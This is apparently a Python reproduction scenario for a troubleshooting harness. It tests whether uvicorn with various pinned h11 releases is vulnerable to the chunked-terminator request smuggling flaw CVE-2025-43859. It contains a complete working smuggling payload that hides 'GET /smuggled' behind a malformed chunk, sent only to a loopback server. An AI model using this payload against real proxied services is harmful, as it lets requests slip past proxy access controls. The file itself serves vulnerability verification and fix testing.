"""h11-chunked-terminator-smuggling: CVE-2025-43859 / GHSA-vqfr-h8mv-ghfj, executed.

One write on a raw loopback socket, the shape of the advisory's example: a chunked
``POST /one`` whose first chunk (``5``, ``AAAAA``) is followed by ``XX`` where the
chunk's CR LF belongs, then bytes that a proxy reading "until the end of the line"
takes for one large chunk, holding ``GET /smuggled``. A strict parser refuses the
body at ``XX``; h11 before 0.16.0 skipped any two bytes there, so it reads ``/one``
with a 7-byte body and then ``GET /smuggled`` as a second request on the same
connection: the request a proxy in front never saw.

``reproduces`` (kind ``smuggled-request-served``): a response to ``/smuggled``.
``fixed`` (kind ``malformed-body-refused``): the server answers 400 (or closes)
and serves nothing for ``/smuggled``.

Each ``h11-X.Y.Z`` scenario installs that h11 release beside the uvicorn release
and runs ``--http h11`` (the evidence of an h11 range is read from these names,
docs/kb-schema.md). ``installed-h11`` runs whatever h11 the release resolves to
(and the reference server, which is built on the doctor's own h11).
``fix-httptools-h11-0.14.0`` keeps h11 0.14.0 installed and serves with ``--http
httptools``, whose parser (llhttp) checks the chunk's CR LF.
"""

from __future__ import annotations

import re
import socket
from pathlib import Path

from troubleshoot.harness.api import (
    Run,
    ScenarioFn,
    ServerSpec,
    Verdict,
    fixed,
    not_applicable,
    reproduces,
    scenario,
    tail,
)

HIDDEN = b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
# h11 < 0.16 reads: chunk 5 "AAAAA", skips "XX", chunk 2 "<hex>", skips CR LF, chunk 0,
# end; then GET /smuggled (chunked, empty). A proxy reading to the end of the line after
# each chunk reads: chunk 5 "AAAAA" (+ "XX2"), chunk <hex> = HIDDEN, chunk 0: one request.
REQUEST = (
    b"POST /one HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"5\r\nAAAAAXX2\r\n" + f"{len(HIDDEN):x}".encode() + b"\r\n" + HIDDEN + b"\r\n0\r\n\r\n"
)
assert 16 <= len(HIDDEN) < 256  # its size is the 2-byte chunk h11 reads

H11_RELEASES = (
    "0.8.1",
    "0.9.0",
    "0.10.0",
    "0.11.0",
    "0.12.0",
    "0.13.0",
    "0.14.0",
    "0.15.0",
    "0.16.0",
)


def _raw(port: int, payload: bytes, wait: float = 3.0) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(payload)
        sock.settimeout(wait)
        chunks = []
        try:
            while data := sock.recv(65536):
                chunks.append(data)
        except (TimeoutError, ConnectionResetError):
            pass
    return b"".join(chunks)


def _loaded(pid: int, library: str) -> bool:
    """Has process ``pid`` loaded ``library``'s extension module (Linux)?"""
    try:
        return library in Path(f"/proc/{pid}/maps").read_text(encoding="utf-8", errors="replace")
    except OSError:
        return False


def _uvicorn_only(spec: ServerSpec) -> str | None:
    if spec.kind == "reference":
        return "the reference server runs on the doctor's own h11: no other h11 can be pinned"
    return None


def _h11_version(run: Run) -> str:
    """The h11 release the server's interpreter imports (asked, not assumed)."""
    import subprocess

    done = subprocess.run(
        [str(run.server.python), "-c", "import h11; print(h11.__version__)"],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    return done.stdout.strip() or "unknown"


def _serve(run: Run, http: str = "h11", want_h11: str | None = None) -> Verdict:
    h11 = _h11_version(run)
    if want_h11 is not None and h11 != want_h11:
        return reproduces("wrong-h11", f"h11 {want_h11} was asked for, {h11} is installed")
    port = run.port()
    args = ["app:app", "--host", "127.0.0.1", "--port", str(port)]
    proc = run.start_cli(*args, *([] if run.is_reference else ["--http", http]))
    run.step(f"waiting for HTTP on port {port}")
    if not run.wait_serving(proc, port):
        # not the advisory's failure: this release does not serve here at all
        return not_applicable(f"the server did not serve GET /: {tail(proc.output(), 2)}")
    if http == "httptools" and not _loaded(proc.pid, "httptools"):
        return reproduces("not-httptools", "--http httptools given, httptools not loaded")
    answer = _raw(port, REQUEST)
    statuses = re.findall(rb"HTTP/1\.1 (\d{3})", answer)
    seen = f"h11 {h11}, --http {http}: statuses {[s.decode() for s in statuses]}"
    shown = answer.decode("latin-1")[-400:]
    if b"/smuggled read" in answer:
        return reproduces("smuggled-request-served", f"{seen}; /smuggled was served", shown)
    if b"/one read" in answer:
        return reproduces("malformed-body-accepted", f"{seen}; the bad body was read", shown)
    if statuses[:1] == [b"400"] or not statuses:
        proc.wait_for(r"Invalid HTTP request|malformed|chunk", 2)
        log = tail(proc.output(), 2)
        return fixed("malformed-body-refused", f"{seen}; nothing served", f"{shown}\n{log}")
    return reproduces("other", seen, shown or tail(proc.output()))


def _pinned(version: str) -> ScenarioFn:
    @scenario(f"h11-{version}", requires=_uvicorn_only, extras={"": [f"h11=={version}"]})
    def run_it(run: Run) -> Verdict:
        return _serve(run, "h11", version)

    run_it.__name__ = f"h11_{version.replace('.', '_')}"
    return run_it


for _version in H11_RELEASES:
    globals()[f"h11_{_version.replace('.', '_')}"] = _pinned(_version)


@scenario("installed-h11")
def installed_h11(run: Run) -> Verdict:
    return _serve(run, "h11")


@scenario(
    "fix-httptools-h11-0.14.0",
    requires=_uvicorn_only,
    extras={"": ["h11==0.14.0", "httptools"]},
)
def fix_httptools(run: Run) -> Verdict:
    return _serve(run, "httptools", "0.14.0")
